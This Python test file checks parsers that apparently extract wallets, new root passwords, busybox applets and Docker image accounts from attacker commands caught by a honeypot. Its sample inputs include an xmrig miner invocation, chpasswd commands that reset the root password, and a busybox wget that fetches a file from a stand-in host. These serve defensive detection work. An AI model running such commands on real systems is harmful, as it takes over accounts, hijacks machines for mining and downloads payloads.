# SPDX-License-Identifier: MIT
"""What a command line or a request names."""

import time

import pytest

from decnet_workers.clusterer.command_text import applets, image_accounts, new_passwords, wallets

MONERO = "4" + "9A" * 47
INTEGRATED = "4" + "9A" * 52 + "b"


@pytest.mark.parametrize(
    ("text", "named"),
    [
        (f"xmrig -u {MONERO}.worker1 -p x", [MONERO]),
        (f"sh s.sh {INTEGRATED}", [INTEGRATED]),
        (f"run --wallet=0x{'aB' * 20}", [f"0x{'aB' * 20}"]),
        ("pool bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4", ["bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"]),
        (f"sha256sum {'4' * 64}", []),
        (f"x{MONERO}", []),
    ],
)
def test_wallets(text: str, named: list[str]) -> None:
    assert wallets(text) == named


@pytest.mark.parametrize(
    ("command", "secrets"),
    [
        ("echo 'root:s3crEt' | chpasswd", ["s3crEt"]),
        ("echo root:s3crEt|sudo chpasswd", ["s3crEt"]),
        ('echo -e "old\\ns3crEt\\ns3crEt"|passwd|bash', ["s3crEt"]),
        ("cat list | chpasswd", []),
        ("passwd root", []),
    ],
)
def test_new_passwords(command: str, secrets: list[str]) -> None:
    assert new_passwords(command) == secrets


def test_applets_and_accounts_of_images() -> None:
    assert applets("/bin/busybox KIVI; /bin/busybox wget http://192.0.2.1/x") == ["KIVI"]
    assert image_accounts('{"Image": "mine/run:1", "Cmd": ["sh"]}') == ["mine"]
    assert image_accounts('{"Image":"ghcr.io/mine/run"}') == ["ghcr.io/mine"]
    assert image_accounts('{"Image":"alpine"}') == []


@pytest.mark.parametrize("text", ["echo " * 900, "|passwd" * 600, "busybox " * 500, "4" * 9000, '"Image":"' * 900])
def test_no_text_takes_long(text: str) -> None:
    start = time.process_time()
    for read in (wallets, new_passwords, applets, image_accounts):
        read(text)
    assert time.process_time() - start < 0.02
